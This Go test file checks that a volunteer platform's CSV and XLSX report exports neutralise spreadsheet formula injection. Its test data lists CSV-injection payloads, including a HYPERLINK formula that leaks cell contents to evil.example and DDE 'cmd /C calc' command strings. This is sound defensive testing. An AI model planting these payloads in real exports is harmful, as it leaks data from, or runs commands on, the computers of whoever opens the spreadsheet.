package reports_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"net/http"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/xuri/excelize/v2"

	"github.com/konullu/konullu"
	"github.com/konullu/konullu/reports"
)

// hostileCells start with every character a spreadsheet reads as the start
// of a formula or command, bare, after spaces and in full width.
var hostileCells = []string{
	"=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")",
	"+1+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+2",
	"\r=1+2",
	"\tSUM(A1)", // a tab or carriage return leads on its own too
	"\rSUM(A1)",
	"   =1+2",
	"\u00a0\u200b@SUM(A1)",
	"＝1+2",
	"＋1+2",
	"－1+2",
	"＠SUM(A1)",
}

// formulaLike says whether a spreadsheet would run the cell, judged apart
// from SafeCell: its first character that is not a space is a formula's.
func formulaLike(cell string) bool {
	if _, err := strconv.ParseFloat(cell, 64); err == nil {
		return false
	}
	trimmed := strings.TrimLeftFunc(cell, func(r rune) bool {
		return r != '\t' && r != '\r' && (unicode.IsSpace(r) || unicode.Is(unicode.Cf, r))
	})
	return trimmed != "" && strings.ContainsRune("=+-@\t\r＝＋－＠", []rune(trimmed)[0])
}

func TestSafeCell(t *testing.T) {
	for _, s := range hostileCells {
		if got := reports.SafeCell(s); got != "'"+s {
			t.Errorf("SafeCell(%q) = %q, want it behind a single quote", s, got)
		}
	}
	for _, s := range []string{"", "Aysel Məmmədova", "240", "-5", "+12.50", "4.00", "2025-03-03", "09:00",
		"Asia/Baku", "18_21", "O'Neil", "a=b", "Ələkbər-oğlu"} {
		if got := reports.SafeCell(s); got != s {
			t.Errorf("SafeCell(%q) = %q, want it unchanged", s, got)
		}
	}
}

// TestExportsNeutraliseFormulas signs up volunteers whose names start with
// each hostile character for a shift of a position with a hostile name, and
// reads both exports back: each such cell is behind a quote, numbers stay
// numbers.
func TestExportsNeutraliseFormulas(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	pos := &konullu.Position{Name: "=cmd|' /C calc'!A0"}
	must(0, f.db.CreatePosition(ctx, pos))
	start := time.Date(2025, 3, 6, 9, 0, 0, 0, baku)
	shifts := must(f.db.CreateShifts(ctx, konullu.NewShifts{CentreID: f.centre.ID, PositionID: pos.ID, Capacity: 50, Publish: true,
		Periods: []konullu.Period{{StartsAt: start.UTC(), EndsAt: start.Add(2 * time.Hour).UTC()}}}))
	names := map[string]string{} // volunteer id → name
	for i, name := range hostileCells {
		u := must(f.db.CreateAccount(ctx, konullu.NewAccount{Email: "hostile" + strconv.Itoa(i) + "@example.az", FullName: name,
			BirthDate: time.Date(2000, 1, 1, 0, 0, 0, 0, time.UTC), Status: konullu.VolunteerActive}))
		must(f.db.RecordPastWork(ctx, konullu.PastWork{ShiftID: shifts[0].ID, VolunteerID: u.VolunteerID,
			CheckedInAt: shifts[0].StartsAt, CheckedOutAt: shifts[0].EndsAt}))
		names[strconv.FormatInt(u.VolunteerID, 10)] = name
	}
	// Readers of CSV and XML drop or fold a carriage return (the raw CSV is
	// checked for it below); the quote in front is what matters.
	same := func(got, want string) bool {
		fold := strings.NewReplacer("\r", "", "\n", "")
		return got == want || fold.Replace(got) == fold.Replace(want)
	}
	check := func(kind string, rows [][]string, numberCol int) {
		t.Helper()
		seen := 0
		for _, row := range rows {
			for _, cell := range row {
				if formulaLike(cell) {
					t.Errorf("%s: cell %q reads as a formula", kind, cell)
				}
			}
		}
		for _, row := range rows[1:] {
			name, ok := names[row[7]]
			if !ok {
				continue
			}
			seen++
			if !same(row[8], "'"+name) {
				t.Errorf("%s: volunteer %q written as %q", kind, name, row[8])
			}
			if row[6] != "'"+pos.Name {
				t.Errorf("%s: position %q written as %q", kind, pos.Name, row[6])
			}
			if row[numberCol] != "120" { // a number stays a number
				t.Errorf("%s: credited minutes %q", kind, row[numberCol])
			}
		}
		if seen != len(hostileCells) {
			t.Errorf("%s: %d hostile rows, want %d", kind, seen, len(hostileCells))
		}
	}

	w := f.get("staff", "/reports/participation.csv?from=2025-03-01&to=2025-03-31")
	if w.Code != http.StatusOK {
		t.Fatalf("csv: %d %s", w.Code, w.Body)
	}
	records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(w.Body.Bytes(), []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	check("csv", records, 12)

	w = f.get("staff", "/reports/participation.xlsx?from=2025-03-01&to=2025-03-31")
	if w.Code != http.StatusOK {
		t.Fatalf("xlsx: %d %s", w.Code, w.Body)
	}
	x, err := excelize.OpenReader(w.Body)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := x.GetRows("participation")
	if err != nil {
		t.Fatal(err)
	}
	check("xlsx", rows, 12)
	for i := 2; i <= len(rows); i++ {
		for _, col := range []string{"A", "H", "M", "N"} { // ids, minutes and hours are numbers
			cell := col + strconv.Itoa(i)
			typ, err := x.GetCellType("participation", cell)
			if err != nil || typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString {
				t.Errorf("xlsx %s is not a number (%v, %v)", cell, typ, err)
			}
			if f, _ := x.GetCellFormula("participation", cell); f != "" {
				t.Errorf("xlsx %s holds a formula %q", cell, f)
			}
		}
	}

	// The volunteers' export has their names too.
	w = f.get("staff", "/reports/volunteer-hours.csv?from=2025-03-01&to=2025-03-31")
	records, err = csv.NewReader(bytes.NewReader(bytes.TrimPrefix(w.Body.Bytes(), []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := 0
	for _, r := range records[1:] {
		if name, ok := names[r[0]]; ok {
			seen++
			if !same(r[1], "'"+name) {
				t.Errorf("volunteer-hours.csv: %q written as %q", name, r[1])
			}
		}
	}
	if seen != len(hostileCells) {
		t.Errorf("volunteer-hours.csv: %d hostile rows, want %d", seen, len(hostileCells))
	}
}
